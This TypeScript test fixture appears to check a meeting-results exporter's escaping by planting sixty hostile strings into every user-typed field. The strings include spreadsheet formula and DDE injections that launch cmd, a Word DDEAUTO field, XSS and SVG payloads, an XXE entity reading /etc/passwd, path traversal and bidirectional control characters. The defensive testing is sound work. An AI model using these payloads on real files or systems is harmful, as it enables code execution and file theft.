/**
 * Sixty texts that would do something in a file that takes them for more than text, and where each is put: into every place of
 * a result that a person filled. A mark at the end says where a text begins and stops, also on a page that broke it.
 */
import type { Result } from '@mufakat/shared/result/result.ts';

export const HOSTILE_TEXTS: readonly string[] = [
  // Formulas
  '=1+1',
  '=HYPERLINK("https://contoh.test","klik")',
  "=cmd|'/c calc'!A1",
  '=IMPORTXML(CONCAT("https://contoh.test/?",A1:A9),"//a")',
  '+62 812 0000 0000',
  '-2+3',
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '%0A-3+3',
  '|calc',
  'DDE("cmd";"/C calc";"!A0")',
  '"; =1+1 ;"',
  // Fields of Word, escapes of spreadsheets, templates
  '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" }',
  '{ INCLUDETEXT "https://contoh.test/x" }',
  '{ HYPERLINK "https://contoh.test" }',
  '{ PAGE } dari { NUMPAGES }',
  '_x000D__x0041_',
  '_x005F_',
  '{{7*7}}',
  '${7*7} #{7*7} <%= 7*7 %>',
  '%s %d %n %x',
  '&P &N &D &"Arial" &A',
  '[h=1]judul[/h] **tebal** # judul',
  // Markup
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate/></svg>',
  '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>',
  '</t></si><si><t>lain',
  '</text></svg><script>1</script>',
  ']]><![CDATA[ <x> ]]>',
  '<!-- catatan --> --> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '&lt;b&gt; &amp;amp; &#60; &#x3c; &nbsp; &e;',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '" onmouseover="alert(1)" x="',
  "' style='position:fixed' '",
  'xml:space="preserve"  dua  spasi',
  '<style>@import "https://contoh.test/x.css"</style>',
  '(Judul) Tj ET endstream endobj /JS (app.alert(1))',
  // Addresses
  'javascript:alert(1)',
  'https://contoh.test/a?b=1&c=2#d',
  'file:///etc/passwd',
  'data:text/html;base64,PHNjcmlwdD4=',
  '\\\\server\\berbagi\\berkas',
  'surat@contoh.test',
  '../../../etc/passwd',
  // Direction, width, form
  'abc\u202Edef\u202C terbalik',
  '\u2066kiri\u2069 \u200Fkanan\u200E \u061C',
  '\u2067tidak ditutup',
  'nol\u200Blebar\u200Dsatu\uFEFFtanda',
  'e\u0301 n\u0303 gabungan a\u0308',
  // What no file can hold
  'setengah \uD800 pasangan',
  '\uDC00 belakang dulu',
  'nol\u0000di tengah',
  'bel\u0007 mundur\u0008 lolos\u001B[31m hapus\u007F c1\u0085',
  'baris satu\r\nbaris dua\nbaris tiga',
  `sangat panjang ${'sambung'.repeat(60)}`,
];

/** Brackets of a mark: letters of the font that nobody types. */
const OPEN = '«';
const CLOSE = '»';

function markOf(index: number): string {
  return `${OPEN}${index}${CLOSE}`;
}

/** A planted text as it ends up in a file: what stands between two marks. */
export const MARK = new RegExp(`${OPEN}(\\d+)${CLOSE}`, 'g');

export interface Planted {
  readonly result: Result;
  /** By the number of the mark, without the mark. */
  readonly texts: readonly string[];
}

const DATED = /^\d{4}-\d{2}-\d{2}/;

/** Keys whose strings are names of things, instants or one of a few words. */
const NOT_TYPED = new Set(
  (
    'id ids step way kind path decision row actor cards constituency replaces format timeZone ' +
    'language days date at due frozenAt startedAt endedAt confirmedAt plannedFrom plannedTo actualFrom actualTo postponedFrom ' +
    'gender shape settledIn settles state class computedClass roles answer group column of ratifiedBy head ' +
    'fields method program screenings steps rules threshold quorum periods rule levels proposer '
  )
    .trim()
    .split(' '),
);

/**
 * The result with one of the texts for every text a person typed, the same for the same. `from` is where in the list to
 * begin, so that several results put them in different places.
 */
export function planted(result: Result, from = 0): Planted {
  const printed = JSON.stringify(result.method.prints);
  const texts: string[] = [];
  const given = new Map<string, string>();
  const typed = (text: string): string => {
    // What the room wrote of the time, and what the method says itself, an option of a choice, is no text of a person.
    if (text.trim() === '' || DATED.test(text) || printed.includes(JSON.stringify(text))) return text;
    const known = given.get(text);
    if (known !== undefined) return known;
    const index = texts.length;
    const hostile = HOSTILE_TEXTS[(index + from) % HOSTILE_TEXTS.length] ?? '';
    texts.push(hostile);
    const made = hostile + markOf(index);
    given.set(text, made);
    return made;
  };
  const walk = (value: unknown): unknown => {
    if (typeof value === 'string') return typed(value);
    if (Array.isArray(value)) return value.map(walk);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, inner]) => [key, NOT_TYPED.has(key) ? inner : walk(inner)]),
    );
  };
  const ids = new Set<string>();
  const rememberIds = (value: unknown): void => {
    if (Array.isArray(value)) value.forEach(rememberIds);
    else if (typeof value === 'object' && value !== null)
      for (const [key, inner] of Object.entries(value)) {
        if (key === 'id' && typeof inner === 'string') ids.add(inner);
        rememberIds(inner);
      }
  };
  rememberIds(result);
  // Links hold ids wherever they stand.
  for (const id of ids) given.set(id, id);
  return { result: walk(result) as Result, texts };
}
